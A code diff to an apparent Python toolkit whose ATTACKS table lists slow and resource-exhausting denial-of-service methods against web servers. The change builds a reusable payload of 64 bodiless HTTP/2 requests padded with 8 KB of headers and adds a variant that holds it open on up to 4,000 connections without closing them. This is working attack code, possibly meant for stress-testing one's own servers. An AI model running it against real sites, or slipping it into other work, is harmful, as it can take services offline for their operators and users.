@@ -85,13 +85,24 @@ def half_frames(site, seconds):
     return hold(seconds, 100, 1_000, lambda number: dial_tls(site, context, number), wire.h2_preface() + block)
 
 
+# 64 requests over HTTP/2 whose bodies do not come, with 8 KB of headers.
+OPEN_REQUESTS = wire.h2_preface() + b"".join(
+    wire.h2_frame(1, 4, 2 * at + 1, wire.H2_REQUEST + wire.h2_literal(b"x-long", b"x" * 120) * 60) for at in range(64)
+)
+
+
 def open_streams(site, seconds):
     """6,400 HTTP/2 requests a second whose bodies do not come, with 8 KB of headers: 64 on a connection, which is closed
     after ten seconds."""
     context = tls(site, ["h2"])
-    headers = wire.H2_REQUEST + wire.h2_literal(b"x-long", b"x" * 120) * 60
-    streams = b"".join(wire.h2_frame(1, 4, 2 * at + 1, headers) for at in range(64))
-    held = hold(seconds, 100, 1_000, lambda number: dial_tls(site, context, number), wire.h2_preface() + streams, lasting_s=10)
+    held = hold(seconds, 100, 1_000, lambda number: dial_tls(site, context, number), OPEN_REQUESTS, lasting_s=10)
+    return {**held, "number": 64 * held["number"]}
+
+
+def more_open_streams(site, seconds):
+    """The same on up to 4,000 connections, which are not closed."""
+    context = tls(site, ["h2"])
+    held = hold(seconds, 300, 4_000, lambda number: dial_tls(site, context, number), OPEN_REQUESTS)
     return {**held, "number": 64 * held["number"]}
 
 
@@ -140,6 +151,7 @@ ATTACKS = {
     "half the headers, metrics": half_headers_plain,
     "half the headers, HTTP/2": half_frames,
     "open requests, HTTP/2": open_streams,
+    "open requests of more connections, HTTP/2": more_open_streams,
     "unfinished bodies": unfinished_bodies,
     "half a CONNECT": half_connect,
     "half a PUBLISH": half_publish,
